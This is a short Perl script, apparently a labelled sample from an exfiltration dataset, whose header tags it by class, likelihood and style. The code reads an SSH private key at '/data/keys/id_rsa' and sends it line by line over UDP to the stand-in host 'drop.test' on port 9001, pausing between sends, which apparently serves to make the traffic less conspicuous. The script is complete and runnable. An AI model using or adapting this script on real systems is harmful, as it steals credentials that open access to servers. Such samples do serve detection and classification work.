# class: exfiltration; possible: low medium; needs: data; style: perl, UDP
use strict;
use IO::Socket::INET;
my $u = IO::Socket::INET->new(Proto => 'udp', PeerAddr => 'drop.test', PeerPort => 9001) or die $!;
open my $f, '<', '/data/keys/id_rsa' or die $!;
while (<$f>) { $u->send($_); select undef, undef, undef, 0.2 }
